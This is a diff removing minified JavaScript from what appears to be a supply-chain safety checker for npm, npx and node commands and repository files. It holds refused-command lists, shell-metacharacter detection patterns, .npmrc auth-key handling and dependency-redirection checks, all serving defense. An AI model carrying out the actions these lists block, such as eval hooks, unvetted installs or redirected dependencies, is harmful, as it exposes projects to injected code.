-"exec"&&bh(i))return{invocation:{},problems:o};const a=/[;&|<>$`'"(){}\\*?]/.test(i)||Yf(i);if(!Ks(i)&&(t==="exec"||a))return{
-invocation:{},problems:o};const c={subcommand:t,operands:[e],passthrough:n},u=fs(i)?i:r.families.allowed.get(i);if(u!==void 0){
-const{launched:f,problems:h}=r.start({program:u,words:n},s.program);return{invocation:{...c,launched:f},problems:h}}if(ei(
-i)||t==="exec"&&at(i)!==void 0)return{invocation:c,problems:o};const{problems:l,...d}=r.tool(e,n),B=t==="exec"||ia(i,r.families.
-tools)||oa(i);return{invocation:{...c,...d},problems:B?l:[]}}function GA(t,e,n){const{program:s,use:r}=t,{invocation:i,named:o,
-problems:a}=ui({program:s,use:r,words:e,family:t,parsing:n}),u=[...o.files.filter(({as:d})=>d!=="place"),...i.files??[]];
-return{invocation:{program:s,family:t,...{flags:[],operands:[],passthrough:[]},...i,files:u},problems:a}}function ui(t){
-const{program:e,use:n}=t,{behind:s,data:r}=n,i=s?t.words.findIndex(({text:m})=>m==="--"):-1,o=i<0?t.words:t.words.slice(
-0,i),a=Un(n,o),c=a.rest?[...a.flags,a.rest.flag]:a.flags,u=i<0||!s?[]:Un(s,t.words.slice(i+1)).flags,l=[...c.map(m=>ai(e,
-n,m)),...u.map(m=>ai(e,s??n,m))],d=(n.stops?a.started:a.operands).slice(r.skips??0),{invocation:B,named:f,problems:h}=zA(
-t,{flags:[...c,...u],operands:d,...a.rest&&{rest:{module:a.rest.flag.flag?.kind==="module",words:a.rest.words}}});return{
-invocation:{...B,...r.any_package&&{anyPackage:!0},flags:[...c.map(HA),...B.flags??[]]},named:{files:[...l.flatMap(({files:m=[]})=>m),
-...f?.files??[]],roots:l.flatMap(({root:m=[]})=>m),nodeFlags:l.flatMap(({nodeFlags:m=[]})=>m)},problems:[...l.flatMap(m=>m.
-problems),...h]}}function HA({word:t,written:e,value:n}){return{name:e,written:e,span:t.span,...n!==void 0&&{value:n}}}function zA(t,e){
-const{program:n,use:s,path:r,family:i,parsing:o}=t,{flags:a,operands:c,rest:u}=e,[l,...d]=c,B=fA(n,s,c);if(B.length>0&&s.
-stops)return{invocation:{},problems:B};const f=l&&s.subcommands.get(l.text),h=f?.data.starts==="own-script"?"own-script":
-s.data.starts;if(l&&f&&h!=="own-script"){const b=r===void 0?l.text:`${r} ${l.text}`;return ui({...t,use:f,path:b,words:d})}
-const m={...r!==void 0&&{subcommand:r},...a.some(({flag:b})=>b?.kind==="checks-syntax-only")&&{parsed:!0}},g=(()=>{if(u&&
-i)return u.module?FA(i,u.words,o):{invocation:{passthrough:u.words},problems:ZA(n,u.words)};if(h!==void 0&&i===void 0)return wA(
-h,t,e);if(l===void 0)return{invocation:{},problems:UA(t,a)};if(h!==void 0&&i)return LA(h,l,d,{family:i,parsing:o});if(s.
-subcommands.size>0){const D=be("unknown-subcommand",l.span,{program:n,subcommand:l.text});return{invocation:{operands:[l],
-passthrough:d},problems:[D]}}const b=c.filter(({span:D})=>B.every(O=>O.span!==D)),y=mA(s,b);return{invocation:{operands:c},
-problems:hA(n,s,c),named:{files:y}}})(),C=[...B,...JA(t,a),...g.problems];return{...g,invocation:{...m,...g.invocation},
-problems:C}}function kh(t){return t.some(({flag:e,off:n})=>e?.kind==="only-prints"&&!n)}function UA({program:t,use:e},n){
-const s=kh(n)?void 0:e.data.alone,r={text:"",span:{start:0,end:t.length}};return s?[et(s,t,r)]:[]}function JA({program:t,
-use:e,path:n,words:s},r){if(kh(r))return[];const i=new Set(r.flatMap(({flag:a,off:c})=>a&&!c?a.name:[])),o=s[0]?.span??{
-start:0,end:0};return Object.entries(e.data.unless??{}).flatMap(([a,c])=>c.split(" ").some(u=>i.has(u))?[]:[et(a,t,{text:n??
-"",span:o})])}function ZA(t,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>et("skips-tests",t,s))}const Jn={
-flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
-      custom-syntax= env= environment= extends= format= formatter= global-setup= global-teardown= hook~=
-      import= load= load-plugins= loader= parser= plugin~= preset~= reporter,reporters= require,r= resolver= rulesdir=
-      runner= setup~= test-environment= test-runner= transform= use= cmd= command= eval= init-hook=
-    `,"outside-code":"exec,execute= on-change= on-failure= on-success= shell= inspect? inspect-brk? inspect-wait?",node:"\
-exec-argv= node-arg~= node-flag~= node-option~=",weakens:"env-file= exit-zero no-fail warn-only","reads-stdin":"stdin","\
-uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place overwrite update update-snapshot,update-s\
-napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
-side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
-pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
-rate","writes-files":"clean create eject init new"},unknown:!0},{refused:vh}=Jn,KA=[{programs:["next"],alone:"never-ends",
-ends_with:"build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:[
-"storybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launcher\
-s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...vh,"never-ends":`${vh["never-\
-ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...Jn.flags,"neve\
-r-ends":`${Jn.flags["never-ends"]} w`}}],WA=cn(Jn),qA=cn({...Jn,flags:{...Jn.flags,code:"custom-syntax= env= environment\
-= formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",module:"import= load= lo\
-ad-plugins= loader= plugin~="}}),VA=new Map(KA.flatMap(t=>{const e=cn({...Jn,...t});return t.programs.map(n=>[n,e])}));function YA(t){
-return VA.get(t)??WA}function XA(t,e,n){const{text:s}=t,r=oa(s);if(r!==void 0)return{problems:[et(r,s,t)]};const i=ia(s,
-n.families.tools),o=i??YA(s),{invocation:a,named:c,problems:u}=ui({program:s,use:o,words:e,parsing:n}),{launched:l=[]}=a;
-return{tool:c,...l.length>0&&{launched:l},problems:i?u:[...u,...Dh(t,e,o)]}}function QA(t,e,n,s=_a){const{problems:r}=ui(
-{program:t.text,use:n,words:e,parsing:s});return[...r,...Dh(t,e,n)]}function Dh({text:t},e,n){const{flags:s,operands:r}=Un(
-n,e),i=e[e.findIndex(({text:u})=>u==="--")+1],o=[...new Set([r[0],i])].filter(u=>u!==void 0&&Vf(u.text)),a=s.filter(({written:u,
-flag:l,value:d=""})=>/^-[ex]$/.test(u)&&/\s/.test(d)||l?.kind!=="config"&&wO(d)),c=r.filter(({text:u})=>Yf(u));return[...o,
-...a.map(({word:u})=>u),...c].flatMap(u=>u===void 0?[]:[et("outside-code",t,u)])}const eS=5,tS={node:sh,npm:ch,npx:XO};function Ta(t,e,n=Kr){
-return Ia(t,e,n,0)}function Ia(t,e,n,s){const r=(d,B)=>nS(d,B,n,s+1),i={families:n,start:r,tool:(d,B)=>XA(d,B,i)};if(typeof t!=
-"string")return GA(t,e,i);const{invocation:o,problems:a}=tS[t](e,i),[c]=t==="node"&&!ii(o)?o.operands:[];if(c===void 0)return{
-invocation:o,problems:a};const u=iS(c.text).map(d=>{const B=["--",d].map(f=>({...c,text:f}));return r({program:"npx",words:[
-...B,...o.passthrough],starts:"file"},t)}),l=u.flatMap(d=>d.launched);return{invocation:l.length>0?{...o,launched:l}:o,problems:[
-...a,...u.flatMap(d=>d.problems)]}}function li({launched:t=[]}){return t.flatMap(e=>[e,...li(e)])}function nS({program:t,
-words:e,...n},s,r,i){const[o={text:"",span:{start:0,end:0}},...a]=e,c=i===eS?"outside-code":t?void 0:sS(o.text);if(c)return{
-launched:[],problems:[et(c,s,o)]};const u=t??(fs(o.text)?o.text:void 0),{invocation:l,problems:d}=u?Ia(u,t?e:a,r,i):Ia("\
-npx",e,r,i);return{launched:[{...l,...n}],problems:d}}function sS(t){return t.startsWith("-")?"unknown-flag":at(t)!==void 0&&
-!fs(t)&&!qr(t)?"outside-code":void 0}const rS=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;function iS(t){
-const e=ie.posix.normalize(t.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(e))return["yar\
-n"];const[,n,s=""]=rS.exec(e)??[];if(n===void 0)return[];if(n===".bin")return[s];const i=[...new Set([s.replace(/\.[cm]?[jt]s$/,
-""),n])].filter(o=>qr(o));return i.length>0?i:[n]}const oS=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
-aS=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
-cS=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,uS=/^[A-Za-z][a-z']*[:,]?$/,lS=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
-dS=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,BS=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
-function fS(t){const e=t.trim(),[n="",...s]=e.split(/\s+/,100);if(n===n.toLowerCase()&&at(n)!==void 0)return!1;if(lS.test(
-e)||dS.test(e)||BS.test(n))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=uS.test(n);if(s.some(o=>/^--?[A-Za-z]/.test(
-o)))return!1;if((r||cS.test(n))&&s.some(o=>oS.test(hS(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(n))return s.length>0||
-/[.!:]$/.test(n);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(aS.test(n)||/[a-z]{2}[.!?]$/.test(e))}
-function hS(t){return t.replace(/[.,;:!?]$/,"")}const pS=/[\s"'`;&|()<>=]+/;function yz(t,e=""){const n=e===""?"":`${e}/`;
-return t.split(pS).map(s=>normalise(n+s)??s)}function wz({targets:t}){return t.flatMap(({kind:e,path:n,parsed:s})=>e==="\
-file"&&n&&!s?[n]:[])}function mS(t){return typeof t=="object"&&t!==null&&!Array.isArray(t)}function gt(t){return mS(t)?t:
-{}}function Yt(t,e){const n=Object.hasOwn(t,e)?t[e]:void 0;return typeof n=="string"?n:""}function lt(t){return t==="fil\
-e"||t==="executable"}function bz(t){if(t.isSymbolicLink())return"symlink";if(t.isDirectory())return"directory";if(t.isFile())
-return(t.mode&73)===0?"file":"executable"}function _z(t){return process.platform==="win32"&&t==="executable"?"file":t}var $a=Te(
-6);const gS=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go java kt kts scala groovy c h cc cpp cxx\
- hh
-  hpp cs fs vb rb php swift m mm dart ex exs erl hs elm clj cljs lua pl pm r jl nim zig sh bash zsh ps1 sql
-  css scss sass less html graphql proto`.split(/\s+/)),CS=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
-ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),yS=new Set("ini json json5 jsonl toml yaml yml".split(" ")),wS=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
-function bS(t){return gS.has(Na(t))}function Ra(t){return bS(t)||CS.has(Na(t))}function Ez(t){return Ra(t)||yS.has(Na(t))||
-wS.test(posix.basename(t))}function Na(t){return ie.posix.extname(t).slice(1).toLowerCase()}const _S={tests:"tests?|__te\
-sts__|specs?|e2e|cypress|playwright",data:"__mocks__|__snapshots__|__fixtures__|fixtures?|testdata|test-utils",beside:"f\
-eatures|bench(?:marks?)?"},ES=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
-kS=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[vS,DS,xS]=Object.values(_S).map(t=>new RegExp(`(?:^\
-|/)(?:${t})/`,"i"));function OS(t){return vS.test(t)||ES.test(t)}function AS(t){return DS.test(t)||t.endsWith(".snap")}function kz(t){
-return OS(t)||AS(t)||xS.test(t)||kS.test(t)}const Fa=["npm-shrinkwrap.json","package-lock.json"],di=[...Fa,"pnpm-lock.ya\
-ml","yarn.lock","bun.lock","bun.lockb"],SS=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
-function vz(t){return di.includes(t)||SS.test(t)}const TS=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
-function Dz(t){return di.includes(t)||TS.test(t)}const Ht="{js,cjs,mjs,ts,cts,mts}",xh="{json,jsonc,json5,yaml,yml,toml}",
-bt=`{${Ht.slice(1,-1)},${xh.slice(1,-1)}}`,IS={vitest:`vitest.config.${Ht} vitest.workspace.${bt} vite.config.${Ht}`,jest:`\
-jest.config.${bt} jest.setup.${Ht}`,mocha:`.mocharc .mocharc.${bt}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
-,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${Ht}`,cypress:`cypress.config.${Ht}`,eslint:`eslint.config.${Ht}\
- .eslintrc .eslintrc.${bt} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${bt} prettier.conf\
-ig.${Ht} .prettierignore .editorconfig`,stylelint:`.stylelintrc .stylelintrc.${bt} stylelint.config.${Ht} .stylelintigno\
-re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${bt} .knip.${xh} knip.config.${Ht}`,markdownlint:`\
-.markdownlint.${bt} .markdownlint-cli2.${bt} .markdownlintignore .markdownlintrc`,cspell:`cspell.${bt} .cspell.${bt} csp\
-ell.config.${bt}`,typescript:"tsconfig.json tsconfig.*.json jsconfig.json *.tsbuildinfo",nyc:`.nycrc .nycrc.${bt} nyc.co\
-nfig.${Ht}`,c8:".c8rc .c8rc.json",babel:`babel.config.${bt} .babelrc .babelrc.${bt}`,swc:".swcrc",pytest:"pytest.toml .p\
-ytest.toml pytest.ini .pytest.ini conftest.py pyproject.toml setup.cfg",tox:"tox.ini tox.toml",nox:"noxfile.py",coverage:"\
-.coveragerc",mypy:"mypy.ini .mypy.ini",ruff:"ruff.toml .ruff.toml",cargo:"Cargo.toml build.rs rust-toolchain rust-toolch\
-ain.toml clippy.toml .clippy.toml rustfmt.toml",go:"go.mod go.work .golangci.{yml,yaml,toml,json}",make:"Makefile makefi\
-le GNUmakefile *.mk",maven:"pom.xml",gradle:"{build,settings}.gradle {build,settings}.gradle.kts gradle.properties",dotnet:"\
-Directory.Build.{props,targets} *.runsettings",phpunit:"phpunit.xml phpunit.xml.dist phpunit.dist.xml",rspec:".rspec .ru\
-bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let Oh;function $S(t){if(Oh??=Object.
-entries(IS).map(([n,s])=>[n,$a(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(t))return"cargo";const e=t.slice(
-t.lastIndexOf("/")+1);return Oh.find(([,n])=>n(e))?.[0]}var Ah=Te(756);const RS="version https://git-lfs.github.com/spec\
-/";function NS(t){if(t.startsWith(RS))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}const $e={
-targets:[],problems:[]};function Se(t){return{targets:t.flatMap(e=>e.targets),problems:t.flatMap(e=>e.problems)}}function ue(t,e,n,s){
-return{targets:[],problems:[be(t,e,n,s)]}}function ct({directory:t},e){return t===""?e:`${t}/${e}`}function Bi({via:t},e){
-return t===void 0?e:{...e,via:t}}const Sh=64,Th=2e3;class FS{#e=new Set;#t=new Set;resolve;#s;constructor(e,n){this.resolve=
-e,this.#s=n}async follow(e,n,s,r){if(this.#e.has(e))return r({why:"cycle"});const i=await this.#s?.tickScript();if(i!==void 0)
-return r({why:"time",limit:i});const o=`${e}\0${n}`;if(this.#t.has(o))return $e;if(this.#e.size>=Sh)return r({why:"depth",
-limit:Sh});if(this.#t.size>=Th)return r({why:"count",limit:Th});this.#e.add(e);const a=await s();return this.#e.delete(e),
-this.#t.add(o),a}}function La(t,e,n){switch(t.kind){case"inside":return t.entry;case"outside":return ue("target-outside",
-n,{path:e,reason:"symlink"});case"missing":return ue("target-missing",n,{path:e});case"loop":return ue("target-not-a-fil\
-e",n,{path:e,reason:"loop"})}}function Pa(t,e,n,s){const r=GS(t,e),i=e.slice(0,Math.max(0,e.length-(xe(n)?.length??0))),
-o=r&&ie.posix.relative(i,r),c=e.split("/").map((u,l,d)=>d.slice(0,l).join("/")).find(u=>t.stat(u)?.kind==="submodule");return ue(
-"target-missing",s,{path:n,...c?{submodule:c}:o&&{near:o}})}function ja(t,e,n){const s=La(t,e,n);return"problems"in s||lt(
-s.kind)?s:ue("target-not-a-file",n,{path:e,reason:s.kind})}function Ih(t,e,n){const s=e.startsWith("/")?void 0:xe(ct(t,e));
-if(s===void 0)return ue("target-outside",n,{path:e,reason:"above"});const r=Ve(t.tree,s);return r.kind==="missing"?Pa(t.
-tree,s,e,n):La(r,e,n)}function Ma(t,{text:e,span:n}){const s=e.startsWith("/")?void 0:xe(ct(t,e)),r=s===void 0?void 0:Ve(
-t.tree,s);return s===void 0||r?.kind!=="inside"||!lt(r.entry.kind)?$e:Ga(t,{name:e,path:r.path,wanted:s},n)}function Ga(t,{
-name:e,path:n,wanted:s},r){const i=t.changed.has(n)||t.changed.has(s);return{targets:[Bi(t,{kind:"file",name:e,path:n})],
-problems:i?[be("target-changed",r,{path:n})]:[]}}async function fi(t,e,n){const s=Ve(t,e);if(!(s.kind==="missing"&&t.stat(
-e)===void 0))return s.kind!=="inside"?{unread:"it is a symbolic link that leads to no file of the repository"}:lt(s.entry.
-kind)?(s.entry.size??0)>n?{unread:"it is too large"}:{text:(await t.read(s.path,n)).toString("utf8"),path:s.path}:{unread:"\
-it is not a regular file"}}async function LS(t,e,n){if(t===e)return!1;const[s,r]=[t,e].map(u=>Ve(u,n));if(s?.kind!=="ins\
-ide"||r?.kind!=="inside")return!0;const[i,o]=[s.entry,r.entry];if(i.oid!==void 0&&i.oid===o.oid)return!1;if(i.size!==o.size||
-!lt(i.kind)||!lt(o.kind))return!0;const[a,c]=await Promise.all([t.read(i.path,i.size),e.read(o.path,o.size)]);return!a.equals(
-c)}async function PS(t,e){const[n=""]=(await t.read(e)).subarray(0,256).toString("latin1").split(`
-`,1);return n}const jS=Vt(t=>Hr(t.files(),({path:e})=>ie.posix.dirname(e))),MS=20;function GS(t,e){const n=e.split("/").
-slice(-MS),s=n.at(-1)??"",r=ie.posix.dirname(e),i=n.slice(1,-1).map((l,d)=>n.slice(d+1).join("/")).find(l=>$h(t.stat(l)));
-if(i!==void 0)return i;const o=Ur(t,s).filter($h),a=o.filter(({path:l})=>l.endsWith(`/${e}`));if(a.length===1)return a[0]?.
-path;const c=(jS(t).get(r)??[]).filter(({path:l})=>ie.posix.extname(l)===ie.posix.extname(s)).map(({path:l})=>ie.posix.basename(
-l)),u=Gr(s,c);return u!==void 0?ie.posix.join(r,u):o.length===1?o[0]?.path:void 0}function $h(t){return!!t?.tracked&&lt(
-t.kind)&&!vt(t.path,"node_modules")}const HS=2e5,zS=2e3;async function xz(t,e){const{kind:n,size:s=0}=t.stat(e)??{};if(!isRegular(
-n))return;if(s>HS)return`has ${s} bytes`;const r=(await t.read(e)).toString("utf8").split(`
-`),i=r.findIndex(o=>o.length>zS);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const US=64*1024;async function hs(t){
-const e=await fi(t.tree,ct(t,".npmrc"),US);if(e===void 0)return{settings:{}};if("unread"in e)return e;const n=NS(e.text);
-return n!==void 0?{unread:n}:{settings:(0,Ah.parse)(e.text),file:e.path}}async function Ha(t,e){const n=ct(t,".npmrc"),s=await hs(
-t);if("unread"in s)return ue("npmrc-setting",e,{path:n,keys:[],why:s.unread});const{settings:r,file:i=n}=s,o=!t.base||t.
-changed.has(n)||t.changed.has(i),a=t.base&&await hs({...t,tree:t.base}),c=a&&"settings"in a?a.settings:{},u={changed:[],
-decides:[],stands:[]};for(const[l,d]of Object.entries(r)){const B=za(l,d),f=o&&JSON.stringify(c[l])!==JSON.stringify(d),
-h=l==="node-options"&&!Lf(String(d));B==="harmless"||B==="honoured"&&!f&&!h||u[f?"changed":B==="other"?"stands":"decides"].
-push(l)}return Se(Object.entries(u).map(([l,d])=>d.length===0?$e:ue("npmrc-setting",e,{path:n,keys:d,why:l},l==="stands"?
-"warning":void 0)))}const JS=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
- cpu depth
-  description diff-ignore-all-space diff-name-only diff-no-prefix diff-text diff-unified dry-run
-  engine-strict expect-result-count expect-results fetch-retries fetch-retry-factor
-  fetch-retry-maxtimeout fetch-retry-mintimeout fetch-timeout foreground-scripts format-package-lock
-  fund git-tag-version heading include include-staged init-author-email init-author-name
-  init-author-url init-license init-private init-type init-version init.author.email
-  init.author.name init.author.url init.license init.version install-links install-strategy json
-  legacy-bundling legacy-peer-deps libc link lockfile-version loglevel logs-max long maxsockets
-  message min-release-age offline omit optional os package-lock parseable prefer-dedupe
-  prefer-offline prefer-online preid production progress provenance read-only rebuild-bundle save
-  save-bundle save-dev save-exact save-optional save-peer save-prefix save-prod sbom-format sbom-type
-  sign-git-commit sign-git-tag strict-npmrc strict-peer-deps tag tag-version-prefix timing unicode
-  update-notifier workspaces-update
-  auto-install-peers dedupe-peer-dependents enable-pre-post-scripts hoist hoist-pattern
-  ignore-workspace-root-check link-workspace-packages manage-package-manager-versions node-linker
-  prefer-workspace-packages public-hoist-pattern recursive-install resolution-mode
-  save-workspace-protocol shamefully-hoist shared-workspace-lockfile side-effects-cache
-  strict-peer-dependencies use-node-version`.split(/\s+/)),ZS=new Set(`browser call editor extension-file git global glo\
-balconfig if-present include-workspace-root
-  init-module init.module location node-gyp node-options package prefix scripts-prepend-node-path
-  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),KS=new Set(["ignor\
-e-scripts","node-options"]);function za(t,e){const n=typeof e!="object"&&!String(e).includes("${");if(t==="ignore-script\
-s"&&n)return typeof e=="boolean"?"honoured":"decides";if(KS.has(t)&&n)return"honoured";const s=t.toLowerCase().replaceAll(
-"_","-");return ZS.has(s)||t.includes("${")?"decides":!JS.has(t)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
-"${")?"other":"harmless"}async function WS(t,e){return Promise.all(Ur(t,".npmrc").map(({path:n})=>qS(t,n,e)))}async function qS(t,e,n){
-const s=ie.posix.dirname(e),r=await hs({tree:t,directory:s==="."?"":s});if("unread"in r)return VS(t,e,r.unread);const{settings:i,
-file:o=e}=r,a=n.has(e)||n.has(o),c=([l,d])=>{const B=za(l,d);return B==="harmless"||B==="honoured"&&!a},u=Object.entries(
-i);return{path:o,text:(0,Ah.stringify)(Object.fromEntries(u.filter(c))),dropped:u.filter(l=>!c(l)).map(([l])=>l)}}function VS(t,e,n){
-const s=Ve(t,e);return s.kind==="inside"&&lt(s.entry.kind)?{path:s.path,text:"",dropped:[n]}:{path:e,dropped:[n]}}const YS=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
-async function XS(t,e){return(await WS(t,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!YS.test(o));return i.length>
-0?[`${s}: ${i.join(", ")}`]:[]})}function Rh(t){try{return t()}catch{return}}const Nh=200;function QS(t){if(new RegExp(`\
-^[ \\t?-]{${Nh}}`,"m").test(t))return!0;let e=0;for(const n of t.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+(/[[{]/.test(n)?
-1:-1)),e>Nh)return!0;return!1}const eT=["dependencies","devDependencies","optionalDependencies"],Fh=64*1024*1024,Xt=Symbol(
-"invalid"),ps=zs(async(t,e)=>{if(Ve(t,e).kind==="missing")return;const n=await fi(t,e,Fh);if(n===void 0||"unread"in n||QS(
-n.text))return Xt;const s=Rh(()=>JSON.parse(n.text.replace(/^\uFEFF/,"")));return typeof s=="object"&&s!==null?s:Xt}),qs=zs(
-async(t,e)=>{const n=e===""?"package.json":`${e}/package.json`,s=await ps(t,n);return s===void 0||s===Xt?s:tT(n,s)});async function zt(t,e){
-const n=await qs(t,e);return n===Xt?void 0:n}function tT(t,e){const n=typeof e.name=="string"?e.name:"";return{path:t,name:n,
-scripts:Ua(e.scripts),binaries:new Map(Object.entries(hi(e.bin,n)??{})),dependencies:new Set(eT.flatMap(s=>[...Ua(e[s]).
-keys()])),workspaces:nT(e.workspaces)}}function hi(t,e){if(typeof t=="string")return{[e.replace(/^@[^/]*\//,"")]:t};const n=Ua(
-t);return n.size===0?void 0:Object.fromEntries(n)}function Ua(t){return new Map(Object.entries(gt(t)).flatMap(([e,n])=>typeof n==
-"string"?[[e,n]]:[]))}function nT(t){const e=Array.isArray(t)?t:gt(t).packages;return Array.isArray(e)?e.filter(n=>typeof n==
-"string"):[]}const Ut=Vt(async t=>{const e=di.filter(i=>t.stat(i)!==void 0),n=Fa.find(i=>e.includes(i)),s=n===void 0?void 0:
-await sT(t,n),r=e.filter(i=>!Fa.some(o=>o===i));return s==="unread"?{unread:[n??"",...r]}:n===void 0?{unread:r}:{npm:s??
-{path:n,packages:new Map,all:[]},unread:r}}),sT=zs(async(t,e)=>{const n=await fi(t,e,Fh),s=n&&"text"in n?n.text.replace(
-/^\uFEFF/,""):"",r=gt(Rh(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===1?"unread":void 0;const i=new Map,
-o=[];for(const[a,c]of Object.entries(gt(r.packages))){if(a==="")continue;const[,u,l]=/^(.*?)node_modules\/((?:@[^/]+\/)?[^/]+)$/s.
-exec(a)??[],d=rT(l??a,gt(c));u===""&&l!==void 0&&i.set(l,d),o.push(d)}return{path:e,packages:i,all:o}});function rT(t,e){
-const n=Yt(e,"name")||t,s=Yt(e,"version"),r=Yt(e,"resolved"),i=Yt(e,"integrity"),o=hi(e.bin,n),a=e.link===!0?{kind:"file",
-at:r.replace(/^file:/,"")}:Lh(r,n,s);return{name:n,version:s,source:a,...i&&{integrity:i},...o&&{bin:o}}}const iT={kind:"\
-registry"},oT=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,aT=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
-cT=/^(?:file|link|portal|workspace):(.*)$/is;function Lh(t,e,n){const[,s]=cT.exec(t)??[];return s!==void 0?{kind:"file",
-at:s}:oT.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:/^https?:/i.test(t)?uT(t,e,n):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
-t)||/\.t(?:ar\.)?gz$/i.test(t)?{kind:"file",at:t}:aT.test(t)?{kind:"git",at:t.replace(/#.*$/s,"")}:iT}function uT(t,e,n){
-const s={kind:"tarball",at:t.replace(/#.*$/s,"")};if(!URL.canParse(t))return s;const{host:r,pathname:i}=new URL(t),o=lT(
-i),[,a]=/^\/([^/]+\/[^/]+)\/tar\.gz\//.exec(o)??[];if(r==="codeload.github.com"&&a!==void 0)return{kind:"git",at:`https:\
-//github.com/${a}`};const c=e.replace(/^@[^/]*\//,"");return o.endsWith(`/${e}/-/${c}-${n}.tgz`)||o.endsWith(`/${e}/-/${e}\
--${n}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${n}/`)?{kind:"registry",at:r}:s}function lT(t){try{
-return decodeURIComponent(t)}catch{return t}}function dT(t){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(t)??[];
-return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}async function BT(t,e,n,s){if(t===e)return[];const[{npm:r},{npm:i}]=await Promise.
-all([Ut(t),Ut(e)]),o=i?.packages.get(n),a={name:n,tree:t,base:e,before:[...o?[o]:[],...await Gh(e,n)],hosts:await bT(e),
-configured:await _T(t,n)},c=await gT(a),u=r?.packages.get(n),d=u?fT(u,a):r?void 0:Ja({name:n,version:"",source:{kind:"re\
-gistry"}},a);return d&&c.push({name:n,path:r?.path??".npmrc",...d}),c.map(B=>be("dependency-redirected",s,B))}function fT(t,e){
-const{tree:n,base:s}=e,r=e.before.find(o=>Mh(o,t));return r?.version===t.version&&mT(r,t)||pT(t,n,s)?{how:"integrity",to:t.
-integrity??"nothing"}:r?Ja(t,e):Ph(t,e)}function Ph(t,e){const{source:n}=t;if(n.kind==="git"||n.kind==="tarball")return{
-how:n.kind,to:n.at};if(n.kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return hT(t,e.tree)&&!s?void 0:
-{how:"file",to:n.at}}return t.name!==e.name?{how:"alias",to:t.name}:Ja(t,e)}function Ja({source:t},{hosts:e,configured:n}){
-if(t.kind!=="registry")return;const s=wT(t,n);return e.has(s)?void 0:{how:"host",to:s}}function jh({source:t}){if(t.kind===
